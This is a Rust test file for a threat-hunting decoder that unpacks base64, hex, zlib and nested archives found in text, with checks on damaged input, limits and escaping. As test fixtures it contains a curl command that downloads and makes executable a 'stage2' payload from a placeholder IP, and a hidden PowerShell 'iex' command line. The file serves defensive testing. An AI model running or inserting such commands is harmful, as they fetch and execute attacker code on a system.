//! Damaged and deceptive input: recorded, flagged, and never allowed to stop the rest.

mod common;

use common::*;
use huntkit_decode::{decode, Compat, DecodeOptions, Status};

fn opts() -> DecodeOptions {
    DecodeOptions::default()
}

fn compat() -> DecodeOptions {
    DecodeOptions {
        compat: Compat::Msticpy,
        ..DecodeOptions::default()
    }
}

const TAIL: &str = "VGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IGVuY29kZWQgc3RyaW5n";

fn two_file_zip() -> Vec<u8> {
    zip(&[
        Entry::stored("a.txt", b"first member, plain text"),
        Entry::stored("b.txt", b"second member, also text"),
    ])
}

#[test]
fn broken_zip_is_undecodable_and_the_rest_still_decodes() {
    for options in [opts(), compat()] {
        // MSTICPy's zip prefix, then garbage.
        let text = format!("one UEsDBBQAAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA two {TAIL} end");
        let out = decode(&text, &options).unwrap();
        let broken = out
            .records
            .iter()
            .find(|r| r.file_type.as_deref() == Some("zip"))
            .expect("the broken zip is recorded");
        assert_eq!(broken.status, Status::Undecodable, "{:?}", options.compat);
        assert!(broken.detail.as_deref().unwrap().contains("zip"));
        assert!(out.text.contains("This is a test of base64 encoded string"));
        assert!(out.text.contains("string</decoded> end"));
    }
}

#[test]
fn truncated_archives_are_flagged() {
    let full = two_file_zip();
    let cut = &full[..full.len() - 30];
    let out = decode(&format!("x {} y {TAIL}", b64(cut)), &opts()).unwrap();
    assert_eq!(out.records[0].file_type.as_deref(), Some("zip"));
    assert_eq!(out.records[0].status, Status::Undecodable);
    assert!(out.text.contains("This is a test of base64"));

    let gz = gzip(b"a line of text that was gzipped and then cut short, badly");
    let out = decode(
        &format!("x {} y {TAIL}", b64(&gz[..gz.len() - 10])),
        &opts(),
    )
    .unwrap();
    assert_eq!(out.records[0].file_type.as_deref(), Some("gz"));
    assert_ne!(
        out.records
            .iter()
            .find(|r| r.depth == 2)
            .map_or(Status::Undecodable, |r| r.status),
        Status::Ok
    );
    assert!(out.text.contains("This is a test of base64"));
}

#[test]
fn space_split_archive_still_lets_the_rest_decode() {
    let encoded = b64(&two_file_zip());
    let (a, b) = encoded.split_at(encoded.len() / 2);
    let text = format!("{a} {b} then {TAIL}");
    let out = decode(&text, &opts()).unwrap();
    let zip = out
        .records
        .iter()
        .find(|r| r.file_type.as_deref() == Some("zip"))
        .unwrap();
    assert_eq!(zip.status, Status::Undecodable);
    assert!(out.text.contains("This is a test of base64 encoded string"));
    // MSTICPy decodes nothing here (checked against MSTICPy 3.0.2): neither half has valid
    // padding, and padding the whole input (Q-B1) leaves the last run one symbol too long.
    let out = decode(&text, &compat()).unwrap();
    assert!(out.records.is_empty());
    assert!(out.text.ends_with(&format!("{TAIL}A")));
}

#[test]
fn archives_are_unpacked_recursively_with_member_types() {
    let inner = two_file_zip();
    let gz = gzip(&inner);
    let outer = zip(&[Entry::stored("inner.zip.gz", &gz)]);
    let out = decode(&b64(&outer), &opts()).unwrap();
    let summary: Vec<(String, Option<String>, String)> = out
        .records
        .iter()
        .map(|r| {
            (
                r.reference.clone(),
                r.file_type.clone(),
                r.file_name.clone(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            ("1".into(), Some("zip".into()), "unknown".into()),
            ("1.1".into(), Some("gz".into()), "inner.zip.gz".into()),
            ("1.1.1".into(), Some("zip".into()), "gzip_file".into()),
            ("1.1.1.1".into(), None, "a.txt".into()),
            ("1.1.1.2".into(), None, "b.txt".into()),
        ]
    );
    assert_eq!(
        out.records[4].decoded_string.as_deref(),
        Some("second member, also text")
    );
    assert_eq!(out.records[4].depth, 4);
    assert!(out.text.contains("<decoded type='string' name='a.txt' index='1.1.1.1' depth='4'>first member, plain text</decoded>"));
}

#[test]
fn zlib_url_safe_and_hex() {
    let z = zlib(b"curl -s http://192.0.2.10/stage2 -o /tmp/.x && chmod +x /tmp/.x");
    let out = decode(&format!("data={}", b64(&z)), &opts()).unwrap();
    assert_eq!(out.records[0].file_type.as_deref(), Some("zlib"));
    assert!(out.records[1]
        .decoded_string
        .as_deref()
        .unwrap()
        .starts_with("curl -s"));

    // URL-safe base64 with both `-` and `_` in it.
    let url = base64::Engine::encode(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
        "?>?>?> some text that encodes to url-safe symbols ~~~ ???".as_bytes(),
    );
    assert!(url.contains('-') || url.contains('_'));
    let out = decode(&format!("token {url} end"), &opts()).unwrap();
    assert_eq!(out.records.len(), 1);
    assert_eq!(out.records[0].source_encoding, "base64url");
    assert!(out.text.starts_with("token <decoded type='string'"));

    let hexed = hex::encode("powershell -w hidden -c iex(whoami)");
    let out = decode(&format!("cmd {hexed}"), &opts()).unwrap();
    assert_eq!(out.records[0].source_encoding, "hex");
    assert_eq!(
        out.records[0].decoded_string.as_deref(),
        Some("powershell -w hidden -c iex(whoami)")
    );

    // Hashes, GUIDs and identifiers that decode to nothing meaningful are left alone.
    let noise = "md5 9fd687fb66a85f89cc413728a179fb0d guid 6f1c2a3b-4d5e-4f60-8a7b-9c0d1e2f3a4b";
    let out = decode(noise, &opts()).unwrap();
    assert!(out.records.is_empty(), "{:?}", out.records);
    assert_eq!(out.text, noise);
}

#[test]
fn pem_block_with_line_breaks_is_one_item() {
    let body = b64(&two_file_zip());
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let text = format!(
        "-----BEGIN DATA-----\n{}\n-----END DATA-----\n",
        lines.join("\n")
    );
    let out = decode(&text, &opts()).unwrap();
    assert_eq!(out.records.len(), 3);
    assert!(out
        .text
        .starts_with("-----BEGIN DATA-----\n<decoded type='archive'"));
    assert!(out.text.ends_with("</decoded>\n-----END DATA-----\n"));
}

#[test]
fn depth_limit_flags_the_deepest_item() {
    let text = nested_base64("the innermost command line", 6);
    let out = decode(
        &text,
        &DecodeOptions {
            max_depth: 3,
            ..opts()
        },
    )
    .unwrap();
    assert_eq!(out.records.len(), 3);
    assert_eq!(out.records[2].status, Status::Truncated);
    assert_eq!(
        out.records[2].detail.as_deref(),
        Some("depth limit reached")
    );
    let out = decode(&text, &opts()).unwrap();
    assert_eq!(out.records.len(), 6);
    assert_eq!(
        out.records[5].decoded_string.as_deref(),
        Some("the innermost command line")
    );
    assert!(out.records.iter().all(|r| r.status == Status::Ok));
}

#[test]
fn attacker_names_cannot_break_the_tag() {
    let z = zip(&[Entry::stored(
        "x' onload='y<>.txt",
        b"hello there, text member",
    )]);
    let out = decode(&b64(&z), &opts()).unwrap();
    assert!(out
        .text
        .contains("name='x&apos; onload=&apos;y&lt;&gt;.txt'"));
}

#[test]
fn item_limit_flags_truncation() {
    let many: Vec<String> = (0..50)
        .map(|i| b64(format!("item number {i} of a long list").as_bytes()))
        .collect();
    let out = decode(
        &many.join(" "),
        &DecodeOptions {
            max_items: 10,
            ..opts()
        },
    )
    .unwrap();
    assert_eq!(out.records.len(), 10);
    assert!(out.truncated);
}

#[test]
fn arbitrary_bytes_never_panic() {
    // A cheap deterministic sweep; the fuzz target explores further.
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let seeds = [
        b64(&two_file_zip()),
        b64(&gzip(b"some text")),
        TAIL.to_owned(),
    ];
    for round in 0..300 {
        let mut bytes = seeds[round % seeds.len()].clone().into_bytes();
        let flips = (next() % 8) as usize;
        for _ in 0..flips {
            let at = (next() as usize) % bytes.len();
            bytes[at] = b"AZaz09+/=\n -_"[(next() % 13) as usize];
        }
        let text = String::from_utf8(bytes).unwrap();
        for options in [opts(), compat()] {
            let out = decode(&text, &options).unwrap();
            out.to_batch(&options).unwrap();
        }
    }
}
